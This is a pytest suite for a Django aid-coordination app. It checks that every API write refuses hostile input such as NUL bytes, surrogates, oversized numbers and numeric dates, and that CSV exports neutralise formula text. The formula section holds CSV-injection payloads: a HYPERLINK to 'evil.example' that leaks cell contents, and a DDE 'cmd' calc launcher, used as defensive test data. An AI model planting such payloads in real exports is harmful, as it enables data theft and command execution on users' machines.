"""Hostile input over every write operation: each API write of the permission matrix (so a new write is
covered as soon as it has its row) gets NUL, a lone surrogate, a 1 MB text, 2^70, the year 9999, null
and a `[null]` body, and must answer 4xx with nothing stored (no audit entry: every write makes one).
Every PATCH refuses null for each field that cannot be empty, and every date of every write refuses a
number.

Formula text (`=HYPERLINK(…)`, `@SUM(1)`) is not hostile input: a partner may well be called that, so it is
stored as written. It is hostile output, so every CSV export path must write it neutralised (a leading
apostrophe) and every numeric cell as a number; the table at the end walks each export path."""

import csv
import datetime as dt
import io
import typing

import pytest
from pydantic import BaseModel, TypeAdapter, ValidationError

from hamdeli.api import api
from hamdeli.core import boundary
from hamdeli.core.models import AuditEntry
from hamdeli.core.spreadsheet import FORMULA_START
from tests.conftest import api_client_for, client_for
from tests.test_permission_matrix import OPERATIONS, ROWS, _id, _world

HOSTILE = {"nul": "a\x00b", "surrogate": "\ud800", "1MB": "x" * 1_000_000, "2^70": 2**70,
           "year 9999": "9999-01-01", "null": None}
WRITES = [entry for entry in ROWS if entry[1].key in OPERATIONS and entry[1].method != "get"
          and not entry[1].multipart]


def _url(row, world):
    path, _method = OPERATIONS[row.key]
    return path.format(**{k: str(v) for k, v in row.params(world).items()})


def _operations():
    for _prefix, router in api._routers:
        for view in router.path_operations.values():
            yield from view.operations


NINJA = {operation.operation_id: operation for operation in _operations()}


def _body_schema(row) -> type[BaseModel] | None:
    for model in NINJA[row.key].models:
        if model.__name__ == "BodyParams":
            (field,) = model.model_fields.values()
            return field.annotation
    return None


def _nullable(row, body) -> bool:
    schema = _body_schema(row)
    return schema is not None and all(boundary._admits_none(schema.model_fields[key].annotation) for key in body)


def _persian(text: str) -> bool:
    return any("\u0600" <= ch <= "\u06ff" for ch in text)


def _setup(entry, cities, org, other_org, owner, officer, logistics, viewer, outsider):
    app, row = entry
    world = _world(app, cities, org, other_org, owner, officer, logistics, viewer, outsider)
    users = {"owner": owner, "officer": officer, "logistics": logistics, "viewer": viewer}
    client = api_client_for(users[row.role], org)
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "fa"
    return row, world, client, _url(row, world)


@pytest.mark.parametrize("entry", WRITES, ids=_id)
def test_every_write_refuses_hostile_input_and_stores_nothing(
        entry, db, cities, org, other_org, owner, officer, logistics, viewer, outsider):
    app, row = entry
    world = _world(app, cities, org, other_org, owner, officer, logistics, viewer, outsider)
    users = {"owner": owner, "officer": officer, "logistics": logistics, "viewer": viewer}
    client = api_client_for(users[row.role], org)
    url = _url(row, world)
    body = row.body(world) if row.body else {}
    send = getattr(client, row.method)
    before = AuditEntry.objects.count()
    # An operation without a body (a removal, a feed) ignores one; only its query string is hostile.
    bodies = {name: dict.fromkeys(body, value) for name, value in HOSTILE.items()} if body else {}
    if body or row.method != "delete":
        bodies["[null]"] = [None]
    for name, hostile in bodies.items():
        response = send(url, hostile, content_type="application/json")
        if name == "null" and response.status_code == 200 and _nullable(row, body):
            # Null clears a field that may be empty (an advocacy's target date, a practice's cost); it is
            # then stored as null, never read as "unchanged" (every other null: see the PATCH test below).
            assert all(response.json()[key] is None for key in body), f"{row.key}: null not stored as null"
            before = AuditEntry.objects.count()
            continue
        assert 400 <= response.status_code < 500, f"{row.key} with {name}: {response.status_code}"
    response = send(url + "?q=%00", body, content_type="application/json")
    assert 400 <= response.status_code < 500, f"{row.key} with NUL in the query: {response.status_code}"
    assert AuditEntry.objects.count() == before, f"{row.key} stored something"


def test_integers_beyond_their_column_are_refused(officer_api, org, officer):
    from hamdeli.campaigns.services import awareness

    campaign = awareness.create_campaign(org=org, actor=officer, name={"fa": "کارزار"},
                                         starts_on=dt.date(2020, 2, 20), ends_on=dt.date(2020, 4, 19))
    design_set = awareness.add_design_set(org=org, actor=officer, campaign=campaign, title={"fa": "طرح"},
                                          formats=["billboard"], ready_on=dt.date(2020, 2, 25))
    url = f"/api/v1/campaigns/design-sets/{design_set.public_id}/placements"
    for field, value in (("count", 2**40), ("reach", 2**70)):
        body = {"format": "billboard", "location": "Chaharbagh", "starts_on": "2020-03-01", "count": 4, field: value}
        response = officer_api.post(url, body, content_type="application/json")
        assert response.status_code == 422 and field in response.json()["fields"], response.content


def test_an_item_name_with_a_lone_surrogate_is_refused(officer_api):
    response = officer_api.post("/api/v1/aid/items", {"code": "S1", "name": {"en": "\ud800"}},
                                content_type="application/json")
    assert response.status_code == 422 and "name.en" in response.json()["fields"]
    assert officer_api.get("/api/v1/aid/pledges?state=%00").status_code == 422


def test_a_page_form_with_a_nul_is_refused(officer_client):
    response = officer_client.post("/partners/new/", {"council_bill_number": "1\x002"})
    assert response.status_code == 422


PATCHES = [entry for entry in WRITES if entry[1].method == "patch"]


@pytest.mark.parametrize("entry", PATCHES, ids=_id)
def test_a_patch_refuses_null_where_the_field_cannot_be_empty(
        entry, db, cities, org, other_org, owner, officer, logistics, viewer, outsider):
    """Null for a field whose column cannot be empty is a 422 naming it (in Persian), nothing stored; null
    for one that can be empty clears it. Never a null read as "unchanged" or as an empty text."""
    row, _world_, client, url = _setup(entry, cities, org, other_org, owner, officer, logistics, viewer, outsider)
    schema = _body_schema(row)
    for name, field in schema.model_fields.items():
        before = AuditEntry.objects.count()
        response = client.patch(url, {name: None}, content_type="application/json")
        if boundary._admits_none(field.annotation):
            assert response.status_code < 500, f"{row.key}.{name}: {response.status_code}"
            if response.status_code == 200:
                assert response.json()[name] is None, f"{row.key}.{name}: null not stored as null"
            else:
                assert AuditEntry.objects.count() == before, f"{row.key}.{name} stored something"
        else:
            assert response.status_code == 422, f"{row.key}.{name} = null: {response.status_code}"
            assert _persian(response.json()["fields"].get(name, "")), (row.key, name, response.json())
            assert AuditEntry.objects.count() == before, f"{row.key}.{name} = null stored something"


def _date_fields(row) -> list[str]:
    schema = _body_schema(row)
    return sorted(boundary._temporal_fields(schema)) if schema is not None else []


DATED = [entry for entry in WRITES if _date_fields(entry[1])]
NUMBERS = (0, 20200101, 1577836800, "0", "1577836800")  # pydantic alone reads 0 as 1970-01-01


@pytest.mark.parametrize("entry", DATED, ids=_id)
def test_a_date_is_never_read_from_a_number(
        entry, db, cities, org, other_org, owner, officer, logistics, viewer, outsider):
    row, world, client, url = _setup(entry, cities, org, other_org, owner, officer, logistics, viewer, outsider)
    body = row.body(world) if row.body else {}
    send = getattr(client, row.method)
    before = AuditEntry.objects.count()
    for name in _date_fields(row):
        for number in NUMBERS:
            response = send(url, {**body, name: number}, content_type="application/json")
            assert response.status_code == 422, f"{row.key}.{name} = {number!r}: {response.status_code}"
            assert name in response.json()["fields"], (row.key, name, response.json())
    assert AuditEntry.objects.count() == before, f"{row.key} stored something"


def _models(annotation, found: set) -> None:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        if annotation not in found:
            found.add(annotation)
            for field in annotation.model_fields.values():
                _models(field.annotation, found)
        return
    for argument in typing.get_args(annotation):
        _models(argument, found)


def test_every_request_reads_dates_only_as_text():
    """Request bodies are core.boundary.Schema (whose dates refuse numbers), at every depth; a date
    in a query or path is core.boundary.Date. A new schema or parameter that forgets fails here."""
    loose = []
    for operation in _operations():
        for params in operation.models:
            for name, field in params.model_fields.items():
                if params.__name__ in ("BodyParams", "FormParams"):
                    found: set = set()
                    _models(field.annotation, found)
                    loose += [f"{operation.operation_id}: {model.__qualname__}" for model in found
                              if not issubclass(model, boundary.Schema)]
                elif boundary._is_temporal(field.annotation):
                    try:
                        TypeAdapter(field.annotation).validate_python("0")
                        loose.append(f"{operation.operation_id}: {name}")
                    except ValidationError:
                        pass
    assert not loose, f"dates that a number would pass: {loose}"


def test_a_date_in_the_query_is_never_read_from_a_number(officer_api):
    for url in ("/api/v1/practices/practices?date_from=0", "/api/v1/practices/practices?date_to=1577836800"):
        response = officer_api.get(url)
        assert response.status_code == 422 and set(response.json()["fields"]) & {"date_from", "date_to"}


# --- formula cells: stored as written, exported neutralised ---------------------------------------------
LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
SUM = "@SUM(1)"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
FORMULAS = (LINK, SUM, PLUS, MINUS)


@pytest.fixture
def formula_world(db, org, officer, cities):
    """Names, notes and codes that a spreadsheet would run, in every app that exports CSV."""
    from types import SimpleNamespace

    from hamdeli.aid import services as aid
    from hamdeli.partners import services as partners
    from hamdeli.practices import services as practices
    from tests.aid.conftest import build_aid

    w = SimpleNamespace(org=org)
    partners.create_partnership(org=org, actor=officer, city=cities["xian"], notes=LINK,
                                council_resolution_number=SUM)
    practices.create_practice(org=org, actor=officer, embed=False, title={"en": LINK, "fa": SUM},
                              topics=["disinfection"], contact_name=PLUS, cost="12.50", cost_currency="EUR")
    base = build_aid(org, officer)
    item = aid.create_item(org=org, actor=officer, code="-mask", name={"en": LINK, "fa": "ماسک"})
    donor = aid.create_party(org=org, actor=officer, name={"en": SUM}, kind="city")
    store = aid.create_location(org=org, actor=officer, name={"en": PLUS}, party=base.city)
    aid.intake(org=org, actor=officer, location=store, item=item, quantity=100, donor=donor, lot_number="=L1",
               note=MINUS)
    aid.distribute(org=org, actor=officer, source=store, recipient=base.hospital, recipient_group=LINK,
                   lines=[{"item": item, "quantity": 30}], people_count=12, note=SUM)
    w.pledge = aid.create_pledge(org=org, actor=officer, direction="inbound", donor=donor, recipient=base.city,
                                 lines=[(item, 40)])
    return w


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for value in row]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


EXPORTS = {  # name → (who asks, URL given the world, the formula texts the export holds)
    "aid movements (API)": ("api", lambda w: "/api/v1/aid/exports/movements", (LINK, SUM, PLUS, MINUS, "=L1")),
    "aid movements (page)": ("page", lambda w: "/aid/exports/movements/", (LINK, SUM, PLUS, MINUS, "=L1")),
    "aid HXL (API)": ("api", lambda w: "/api/v1/aid/exports/hxl", (LINK, SUM, PLUS)),
    "aid HXL (page)": ("page", lambda w: "/aid/exports/hxl.csv", (LINK, SUM, PLUS)),
    "aid box list template": ("page", lambda w: f"/aid/pledges/{w.pledge.public_id}/boxes.csv", ("-mask",)),
    "partners (API)": ("api", lambda w: "/api/v1/partners/export?format=csv", (LINK, SUM)),
    "partners (page)": ("page", lambda w: "/partners/export/?format=csv", (LINK, SUM)),
    "practices (API)": ("api", lambda w: "/api/v1/practices/export?format=csv", (LINK, SUM, PLUS)),
    "practices (page)": ("page", lambda w: "/practices/export/?format=csv", (LINK, SUM, PLUS)),
}


@pytest.mark.parametrize("path", list(EXPORTS))
def test_every_csv_export_writes_formula_text_neutralised_and_numbers_as_numbers(
        path, formula_world, officer, officer_api):
    who, url, expected = EXPORTS[path]
    client = officer_api if who == "api" else client_for(officer)
    response = client.get(url(formula_world))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    cells = _cells(response.content.decode("utf-8"))
    running = [c for c in cells if c.startswith(FORMULA_START) and not _number(c)]
    assert not running, f"{path}: cells a spreadsheet would run: {running}"
    for text in expected:
        assert "'" + text in cells, f"{path}: {text!r} not written as '{text!r}"



def test_the_hxl_export_with_formula_names_is_still_hxl_and_still_sums(formula_world, officer_api):
    import hxl

    text = officer_api.get("/api/v1/aid/exports/hxl").content.decode("utf-8")
    data = hxl.data(list(csv.reader(io.StringIO(text))))
    tags = [str(column.get_display_tag()) for column in data.columns]
    assert {"#org+funding", "#item+name", "#loc+name", "#status", "#output+num+received",
            "#output+num+distributed"} <= set(tags)
    rows = [list(r.values) for r in data]

    def total(tag):
        return sum(int(r[tags.index(tag)]) for r in rows if r[tags.index(tag)] not in ("", None))

    assert total("#output+num+received") == 100 and total("#output+num+distributed") == 30
    assert {r[tags.index("#org+funding")] for r in rows} == {"'" + SUM}
    assert "'" + LINK in {r[tags.index("#item+name")] for r in rows}


def test_formula_text_comes_back_as_written_when_an_export_is_imported(
        formula_world, org, officer, other_org, outsider, officer_api, cities):
    """The apostrophe is the spreadsheet's, not the data's: reading a CSV export back removes it. XLSX
    cells are typed: the text is stored as text (never a formula), the numbers as numbers."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from openpyxl import load_workbook

    from hamdeli.aid import services as aid
    from hamdeli.aid.models import Box
    from hamdeli.partners import tables
    from hamdeli.practices import exchange
    from tests.aid.conftest import form
    from tests.aid.test_box_import import _confirm_fields

    content = officer_api.get("/api/v1/partners/export?format=csv").content
    [row] = tables.read_rows(content, "csv")
    assert (row["notes"], row["council_resolution_number"]) == (LINK, SUM)
    content = officer_api.get("/api/v1/partners/export?format=xlsx").content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    types = {c.value: c.data_type for cells in sheet.iter_rows() for c in cells}
    assert (types[LINK], types[SUM], types[cities["xian"].pk]) == ("s", "s", "n")
    [row] = tables.read_rows(content, "xlsx")
    assert (row["notes"], row["council_resolution_number"], row["geonameid"]) == (LINK, SUM, str(cities["xian"].pk))

    text = officer_api.get("/api/v1/practices/export?format=csv").content.decode("utf-8")
    [copy] = exchange.import_practices(org=other_org, actor=outsider, content=text, format="csv").practices
    assert copy.title == {"en": LINK, "fa": SUM} and copy.contact_name == PLUS

    pledge = aid.transition_pledge(org=org, actor=officer, pledge=formula_world.pledge, action="accept")
    template = client_for(officer).get(f"/aid/pledges/{pledge.public_id}/boxes.csv").content
    upload = SimpleUploadedFile("boxes.csv", template, content_type="text/csv")
    clerk = client_for(officer)
    preview = clerk.post(f"/aid/pledges/{pledge.public_id}/import/", form(org, {"file": upload}))
    assert preview.status_code == 200, preview.content[:500]  # the upload previews, the confirm creates
    done = clerk.post(f"/aid/pledges/{pledge.public_id}/import/", _confirm_fields(preview))
    assert done.status_code == 302, done.content[:500]
    assert Box.objects.filter(consignment__pledge=pledge, lines__item__code="-mask").count() == 1
